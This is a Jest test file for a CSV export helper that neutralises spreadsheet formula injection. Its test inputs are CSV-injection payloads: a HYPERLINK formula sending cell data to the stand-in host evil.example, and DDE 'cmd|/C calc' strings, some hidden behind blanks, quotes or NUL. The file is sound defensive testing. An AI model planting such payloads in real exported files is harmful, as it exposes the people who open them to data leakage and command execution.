import { csvCell, toCsv } from './csv';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+cmd|/C calc!A0', `"'+cmd|/C calc!A0"`],
    ['-2+3+cmd|/C calc!A0', `"'-2+3+cmd|/C calc!A0"`],
    ['@SUM(1+1)*cmd|/C calc!A0', `"'@SUM(1+1)*cmd|/C calc!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j with a leading single quote, quoted', (hostile, expected) => {
    expect(csvCell(hostile)).toBe(expected);
  });

  it.each([
    [' =HYPERLINK("http://evil.example/?x="&A1,"click")', `"' =HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['   +cmd|/C calc!A0', `"'   +cmd|/C calc!A0"`],
    ['\u00a0-2+3+cmd|/C calc!A0', `"'\u00a0-2+3+cmd|/C calc!A0"`],
    ['\n@SUM(1+1)*cmd|/C calc!A0', `"'\n@SUM(1+1)*cmd|/C calc!A0"`],
    ['"=HYPERLINK(""http://evil.example"")"', `"'""=HYPERLINK(""""http://evil.example"""")"""`],
    [' "=1+1', `"' ""=1+1"`],
    ["'=1+1", `"''=1+1"`],
    ['\u3000=1+1', `"'\u3000=1+1"`],
  ])(
    'neutralises the formula %j hidden behind leading blanks or quotes, which a spreadsheet may drop',
    (hostile, expected) => {
      expect(csvCell(hostile)).toBe(expected);
    },
  );

  it('neutralises a cell starting with NUL (OWASP ASVS 1.2.10)', () => {
    expect(csvCell('\0=1+1')).toBe(`"'\0=1+1"`);
  });

  it('leaves text with leading blanks or quotes and no formula trigger behind them alone', () => {
    expect(csvCell('  claims.csv')).toBe('"  claims.csv"');
    expect(csvCell('"quoted" name')).toBe('"""quoted"" name"');
  });

  it('quotes plain text and doubles its quotes, so commas and line breaks stay inside the cell', () => {
    expect(csvCell('claims.csv')).toBe('"claims.csv"');
    expect(csvCell('a,"b"\r\n=c')).toBe('"a,""b""\r\n=c"');
  });

  it('leaves a formula trigger that is not the first character alone', () => {
    expect(csvCell('CLM_FROM_DT=2008-13-01')).toBe('"CLM_FROM_DT=2008-13-01"');
  });

  it('writes numbers bare, negative amounts included, so the sheet can still sum them', () => {
    expect(csvCell(-1250)).toBe('-1250');
    expect(csvCell(0.5)).toBe('0.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(12n)).toBe('12');
  });

  it('writes null and undefined as empty cells and dates as ISO instants', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date('2024-03-31T00:00:00Z'))).toBe('"2024-03-31T00:00:00.000Z"');
  });
});

describe('toCsv', () => {
  it('writes a header row and one CRLF-terminated row per item, every hostile cell neutralised', () => {
    const rows = [
      { file: '=cmd|" /C calc"!A0', records: 3 },
      { file: 'ok.csv', records: -1 },
    ];
    const csv = toCsv(
      [
        { header: 'file', value: (row: (typeof rows)[number]) => row.file },
        { header: 'records', value: (row: (typeof rows)[number]) => row.records },
      ],
      rows,
    );
    expect(csv).toBe(`"file","records"\r\n"'=cmd|"" /C calc""!A0",3\r\n"ok.csv",-1\r\n`);
    // No cell of the document but a bare number starts with a formula trigger.
    for (const line of csv.split('\r\n')) expect(line).not.toMatch(/(^|,)(?!-?\d+(\.\d+)?(,|$))[=+\-@]/);
  });
});
